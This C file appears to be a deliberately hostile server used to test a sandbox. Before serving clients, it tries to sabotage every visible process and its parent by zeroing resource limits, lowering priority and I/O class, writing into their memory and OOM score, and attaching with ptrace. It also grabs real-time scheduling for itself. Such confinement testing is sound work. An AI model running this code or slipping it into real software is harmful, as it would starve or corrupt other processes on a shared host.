/* Hostile: changes the limits, priority, scheduling and memory of its parent, and of whomever it sees.
 * Loses: nothing
 * Why: the box does not let it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>
#include "server.h"

static void overwrite(pid_t pid, const char *name)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, O_RDWR);
	if (fd != -1)
		pwrite(fd, "0\n", 2, 0x400000);
}

static void harm(pid_t pid)
{
	struct sched_param first = {.sched_priority = 99}, none_given = {0};
	struct rlimit none = {0};
	struct iovec memory = {.iov_base = (void *)0x400000, .iov_len = 1};

	prlimit(pid, RLIMIT_NOFILE, &none, NULL);
	prlimit(pid, RLIMIT_CPU, &none, NULL);
	setpriority(PRIO_PROCESS, (id_t)pid, 19);
	setpriority(PRIO_USER, 0, 19);
	sched_setscheduler(pid, SCHED_IDLE, &none_given);
	sched_setscheduler(0, SCHED_FIFO, &first);
	syscall(SYS_ioprio_set, 1, pid, 3 << 13);
	overwrite(pid, "mem");
	overwrite(pid, "oom_score_adj");
	process_vm_writev(pid, &memory, 1, &memory, 1, 0);
	ptrace(PTRACE_ATTACH, pid, NULL, NULL);
}

static void harm_all(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while (proc != NULL && (entry = readdir(proc)) != NULL)
		if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid())
			harm(atoi(entry->d_name));
	harm(getppid());
	if (proc != NULL)
		closedir(proc);
}

void run_server(int listenfd)
{
	signal(SIGCHLD, SIG_IGN);
	harm_all();
	for (;;) {
		int connfd = tcp_accept(listenfd);
		pid_t pid = fork();

		if (pid == 0) {
			close(listenfd);
			serve_client(connfd);
			_exit(0);
		}
		close(connfd);
	}
}
